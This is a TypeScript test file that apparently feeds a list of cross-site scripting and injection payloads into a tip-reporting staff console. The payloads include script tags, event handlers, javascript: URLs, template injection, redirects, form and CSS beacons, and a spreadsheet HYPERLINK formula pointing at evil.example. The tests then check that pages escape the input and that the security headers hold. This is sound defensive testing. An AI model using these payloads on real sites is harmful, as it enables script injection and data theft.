import { randomUUID } from "node:crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { addMessage } from "../../functions/service/threads/add-message.ts";
import { submitTip } from "../../functions/service/tips/submit-tip.ts";
import { Browser } from "./browser.ts";
import type { TestDesk } from "./desk.ts";
import { drawnDesk, html, inspect } from "./inspect-page.ts";

/** What people type into boxes to make a page do something; each carries its own mark. */
const hostile = [
  `<script>alert("MARK")</script>`,
  `"><img src=x onerror=alert('MARK')>`,
  `'><svg/onload=alert(1)>MARK`,
  `</p></article></main><iframe srcdoc="<script>MARK</script>">`,
  `<a href="javascript:alert('MARK')">click</a>`,
  `javascript:alert('MARK')`,
  `--><!--<b>MARK</b>`,
  `]]><![CDATA[<b>MARK</b>`,
  `{{constructor.constructor('alert(1)')()}} \${7*7} MARK`,
  `<style>@import 'https://evil.example/MARK'</style>`,
  `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/MARK">`,
  `<form action="https://evil.example/"><input name="csrf"><button>MARK</button></form>`,
  `</textarea><textarea autofocus onfocus=alert(1)>MARK`,
  `</title><script>MARK</script>`,
  `&lt;script&gt;MARK&lt;/script&gt;`,
  `\u202eMARK\u202c <b>MARK</b> \u0000\u0008MARK`,
  `＜script＞MARK＜/script＞`,
  `=HYPERLINK("https://evil.example/MARK","x")`,
  `今夜 <b onclick=alert(1)>横浜港</b> に <i>覚醒剤</i> コンテナ CSQU 305438-3 <u>MARK</u>`,
];

let desk: TestDesk;
let browser: Browser;
const tips: string[] = [];
beforeAll(async () => {
  ({ desk, browser } = await drawnDesk());
  for (const words of hostile) {
    const accepted = await submitTip(desk.intake.ctx, {
      channel: "web",
      idempotencyKey: randomUUID(),
      report: {
        locale: "ja",
        text: words,
        goods: [],
        place: words,
        when: words,
        how: words,
        who: words,
        contact: words,
      },
    });
    await desk.intake.drained();
    await addMessage(desk.intake.ctx, {
      receipt: accepted.receipt,
      locale: "ja",
      text: words,
      idempotencyKey: randomUUID(),
    });
    await desk.intake.drained();
    tips.push(accepted.id);
  }
}, 120_000);
afterAll(() => desk?.close());

describe("a stranger's words", () => {
  it("are shown on the tip's page as the words they are, and never become markup", async () => {
    for (const [index, id] of tips.entries()) {
      const page = await html(await browser.request(`/staff/tips/${id}/`));
      expect(page, hostile[index]).toContain("MARK");
      inspect(page, hostile[index] ?? "");
    }
  });

  it("are shown beside the queue, and the queue itself holds none of them", async () => {
    const list = await html(await browser.request("/staff/"));
    inspect(list, "queue");
    expect(list.replaceAll(/&lt;b&gt;MARK&lt;\/b&gt;[^<]*/g, "")).not.toContain("MARK");
    for (const lane of ["queue", "quarantine"])
      for (const id of tips.slice(0, 4))
        inspect(await html(await browser.request(`/staff/?lane=${lane}&tip=${id}`)), `${lane} ${id}`);
  });

  it("stand in the lines that a search shows as the words they are", async () => {
    const found = await html(await browser.request("/staff/?q=MARK"));
    expect(found.match(/class="row-line"/g)?.length).toBeGreaterThan(hostile.length / 2);
    inspect(found, "lines");
    for (const words of ["evil.example", "onerror", "&lt;b&gt;"])
      inspect(await html(await browser.request(`/staff/?${new URLSearchParams({ q: words })}`)), words);
  });

  it("do no harm where an officer repeats them: reasons, questions, searches, addresses", async () => {
    const [id = ""] = tips;
    for (const words of hostile) {
      const page = await html(await browser.request(`/staff/tips/${id}/`));
      const csrf = /name="csrf" value="([^"]+)"/.exec(page)?.[1] ?? "";
      const band = /band-A"/.test(page) ? "B" : "A";
      await browser.post(`/staff/tips/${id}/band`, { csrf, band, reason: words });
      await browser.post(`/staff/tips/${id}/message`, { csrf, text: words });
      const refused = await browser.post(`/staff/tips/${id}/band`, {
        csrf,
        band,
        reason: words,
        version: "0",
        seen: "1",
        back: `/staff/?q=${encodeURIComponent(words)}`,
      });
      inspect(await html(refused), `refused ${words}`);
      await browser.post(`/staff/tips/${id}/note`, { csrf, visible: "all", text: words });
      await browser.post(`/staff/tips/${id}/close`, { csrf, outcome: "other", reason: words });
      inspect(await html(await browser.request(`/staff/tips/${id}/`)), `closed ${words}`);
      await browser.post(`/staff/tips/${id}/reopen`, { csrf });
      const query = new URLSearchParams({ q: words });
      await browser.post("/staff/views", {
        csrf,
        name: words.slice(0, 60),
        back: `/staff/?${query}`,
        shared: "1",
      });
      inspect(await html(await browser.request(`/staff/?${query}`)), `search ${words}`);
      const stranger = new Browser(desk);
      const typed = await stranger.post("/staff/sign-in/", { email: words, password: words });
      inspect(await html(typed), `sign-in ${words}`);
    }
    inspect(await html(await browser.request(`/staff/tips/${id}/`)), "after all");
  }, 120_000);

  it("are bytes in JSON to the programs that read them, never a page", async () => {
    const { api } = await desk.officer("supervisor");
    for (const id of tips) {
      const answer = await api.get(`/tips/${id}`);
      expect(answer.headers.get("content-type")).toMatch(/^application\/json/);
      expect(answer.headers.get("x-content-type-options")).toBe("nosniff");
    }
  });

  it("cannot run even if they became markup: nothing inline is allowed", async () => {
    const policy = (await browser.request("/staff/")).headers.get("content-security-policy") ?? "";
    expect(policy).toContain("default-src 'none'");
    expect(policy).toMatch(/script-src 'self'(;|$)/);
    expect(policy).toContain("require-trusted-types-for 'script'");
    expect(policy).not.toMatch(/unsafe|https?:/);
  });
});
